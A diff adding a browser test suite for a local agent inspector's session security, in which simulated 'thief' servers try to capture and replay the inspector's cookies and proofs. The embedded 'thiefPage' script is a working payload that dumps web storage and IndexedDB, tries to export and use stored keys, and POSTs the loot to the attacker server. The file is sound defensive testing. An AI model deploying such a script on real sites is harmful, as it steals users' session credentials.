@@ -1,0 +1,205 @@
+/**
+ * The inspector's page in a real browser, over a real daemon, beside processes that want its session: one that listens on
+ * another port, and one that takes the inspector's own port while the daemon is down. What they hear opens nothing.
+ */
+
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import t from 'tap';
+import type { JsonObject } from '../../machines/base/json.ts';
+import {
+  axeFindings,
+  chromiumPath,
+  goTo,
+  linkOf,
+  noChromium,
+  openBlank,
+  openBrowser,
+  openInspector,
+} from '../support/browser.ts';
+import { runCli, startDaemon } from '../support/daemon.ts';
+import { makeHome } from '../support/home.ts';
+import { ask } from '../support/inspector.ts';
+import { commandOf, eventually, startGateway } from '../support/mcp/gateway.ts';
+import { stdioPeer } from '../support/mcp/stdio-peer.ts';
+import { freePort } from '../support/oauth/ports.ts';
+import { startThief, tryHeard } from '../support/thief.ts';
+
+const options = chromiumPath === undefined ? { skip: noChromium } : {};
+const configOf = (port: number): JsonObject => ({ inspector: { port }, agent: { runner: 'echo' } });
+const live = (page: { getByText(text: string, options: { exact: true }): { waitFor(): Promise<void> } }) =>
+  page.getByText('live', { exact: true }).waitFor();
+
+/** The page of a thief on the inspector's own port: to a browser it is the same origin. */
+const thiefPage = `<!doctype html><title>a thief</title><script>
+const loot = [];
+const opened = (name) => new Promise((resolve) => {
+  const opening = indexedDB.open(name);
+  opening.onsuccess = () => resolve(opening.result);
+});
+const all = (database, name) => new Promise((resolve) => {
+  const asked = database.transaction(name).objectStore(name).getAll();
+  asked.onsuccess = () => resolve(asked.result);
+});
+(async () => {
+  for (const kept of [localStorage, sessionStorage]) loot.push(...Object.values({ ...kept }));
+  for (const { name } of await indexedDB.databases()) {
+    const database = await opened(name);
+    for (const store of database.objectStoreNames) {
+      for (const { id, key } of await all(database, store)) {
+        loot.push(id);
+        loot.push(await crypto.subtle.exportKey('raw', key).then((bytes) => 'key ' + btoa(String.fromCharCode(...new Uint8Array(bytes))), () => 'not exported'));
+        for (const nonce of ['', 'A'.repeat(43)]) {
+          const text = JSON.stringify(['page', id, location.origin, nonce]);
+          const signed = await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(text));
+          loot.push(btoa(String.fromCharCode(...new Uint8Array(signed))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''));
+        }
+      }
+    }
+  }
+  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
+})();
+</script>`;
+
+t.test('SEC-1 · what a listener on another port hears opens nothing', options, async (t) => {
+  const browser = await openBrowser(t);
+  const gateway = await startGateway(t, {}, { config: configOf(0) });
+  const open = await openInspector(browser, gateway);
+  const { origin } = new URL(open.page.url());
+  const thief = await startThief(t, 0, () => '<!doctype html><title>a dev server</title>');
+  const other = await open.context.newPage();
+
+  await other.goto(`http://127.0.0.1:${thief.port}/`);
+
+  const [heard] = thief.heard;
+  t.match(heard?.headers.cookie, /agent_inspector_\d+=/, 'browsers know no ports there');
+  t.same(await tryHeard(origin, heard?.headers ?? {}), [401, 401]);
+  // The cookie is enough for a greeting, which is worth nothing without the key.
+  const challenge = 'x'.repeat(43);
+  const cookie = heard?.headers.cookie ?? '';
+  const greeting = await ask(`${origin}/hello`, { headers: { cookie, 'x-agent-inspector-challenge': challenge } });
+  const { nonce, proof } = JSON.parse(greeting.body) as Readonly<Record<string, string>>;
+  for (const guess of [nonce, proof, challenge]) {
+    t.same(await tryHeard(origin, { cookie, 'x-agent-inspector-proof': guess }), [401, 401]);
+  }
+  t.same(await other.evaluate('indexedDB.databases()'), [], 'what the page keeps is of its own port');
+  await live(open.page);
+});
+
+t.test('SEC-1 · what takes the port of a stopped daemon hears nothing that opens the next', options, async (t) => {
+  const browser = await openBrowser(t);
+  const port = await freePort();
+  const origin = `http://127.0.0.1:${port}`;
+  const gateway = await startGateway(t, {}, { config: configOf(port) });
+  const { page, context } = await openInspector(browser, gateway);
+  gateway.daemon.kill('SIGTERM');
+  await gateway.daemon.exited;
+  await page.getByText('no daemon', { exact: true }).waitFor();
+
+  let taken: readonly string[] | undefined;
+  const guess = JSON.stringify({ nonce: 'A'.repeat(43), proof: 'A'.repeat(43) });
+  const thief = await startThief(t, port, ({ path, body }) => {
+    if (path === '/loot') taken = JSON.parse(body) as readonly string[];
+    return path === '/hello' ? guess : thiefPage;
+  });
+  await eventually(() => thief.heard.length > 2);
+  const fromPage = [...thief.heard];
+  const lured = await context.newPage();
+  await lured.goto(`${origin}/`);
+  const loot = await eventually(() => taken);
+  await lured.close();
+  t.ok(
+    fromPage.every(({ headers }) => headers['x-agent-inspector-proof'] === undefined),
+    'the page signed nothing',
+  );
+  t.ok(
+    fromPage.every(({ path, body }) => path === '/hello' && body === ''),
+    'and asked for nothing',
+  );
+  t.ok(loot.includes('not exported'), 'nor can a script of the same origin take the key');
+  t.notMatch(loot.join(), /key /);
+
+  await thief.close();
+  await startDaemon(t, gateway.home.path);
+
+  await live(page);
+  for (const { headers } of thief.heard) t.same(await tryHeard(origin, headers), [401, 401]);
+  const { cookie } = fromPage[0]?.headers ?? {};
+  for (const proof of loot) {
+    t.same(
+      await tryHeard(origin, { cookie, 'x-agent-inspector-proof': proof, 'x-agent-inspector-key': proof }),
+      [401, 401],
+    );
+  }
+  await page.reload();
+  await live(page);
+  const second = await context.newPage();
+  await second.goto(`${origin}/#/events`);
+  await live(second);
+});
+
+t.test('SEC-1 · the browser opens the link by a file, and the page outlives a reload', options, async (t) => {
+  const browser = await openBrowser(t);
+  const gateway = await startGateway(t, {}, { config: configOf(0) });
+  const user = makeHome(t, { 'scripts/browser.sh': '#!/bin/sh\necho "$@" > "$(dirname "$0")/../argv"\n' });
+  const { page } = await openBlank(browser);
+  const env = { BROWSER: join(user.path, 'scripts/browser.sh'), HOME: user.path, DISPLAY: '' };
+
+  const command = runCli(['inspect', '--web'], gateway.home.path, env);
+  const address = await eventually(() => {
+    try {
+      return readFileSync(join(user.path, 'argv'), 'utf8');
+    } catch {
+      return undefined;
+    }
+  });
+
+  t.match(address, /^file:\/\/\/\S+\/open\.html\n$/);
+  t.notMatch(address, /token/);
+  await page.goto(address.trim());
+  await live(page);
+  t.equal((await command).code, 0);
+  await page.reload();
+  await live(page);
+  t.match(page.url(), /^http:\/\/127\.0\.0\.1:\d+\/$/);
+});
+
+t.test('SEC-1 · LNK-3 · a program is added after a fresh link, where the person was', options, async (t) => {
+  const browser = await openBrowser(t);
+  const gateway = await startGateway(t, {}, { config: configOf(0), timePasses: true });
+  const open = await openInspector(browser, gateway);
+  const { page, context } = open;
+  const config = Buffer.from(JSON.stringify(commandOf(stdioPeer()))).toString('base64url');
+  await gateway.daemon.pass(600_000);
+  await goTo(
+    open,
+    `#/servers?${new URLSearchParams({ add: '1', link: `agent://mcp/install?name=late&config=${config}` })}`,
+  );
+  const dialog = page.getByRole('dialog', { name: 'Add an MCP server' });
+  await dialog.getByRole('button', { name: 'Add the command' }).click();
+  await dialog.getByRole('alert').filter({ hasText: 'agent inspect --web' }).waitFor();
+  t.same(await axeFindings(open), []);
+  t.same(await gateway.list(), [], 'nothing was added');
+
+  const other = await context.newPage();
+  await other.goto(await linkOf(gateway));
+  await live(other);
+  await dialog.getByRole('button', { name: 'Add the command' }).click();
+
+  await page.getByRole('heading', { name: 'late' }).waitFor();
+  await gateway.reaches('late', 'connected', 'lazy');
+});
+
+t.test('SEC-1 · INS-2 · a page whose session was ended says how to open another', options, async (t) => {
+  const browser = await openBrowser(t);
+  const gateway = await startGateway(t, {}, { config: configOf(0) });
+  const { page } = await openInspector(browser, gateway);
+
+  t.match((await gateway.cli('inspect', '--end-sessions')).stdout, /^1 session of the inspector page ended\.$/m);
+
+  await page.getByText('This page has no session').waitFor();
+  const second = await page.context().newPage();
+  await second.goto(await linkOf(gateway));
+  await live(second);
+  await live(page);
+});
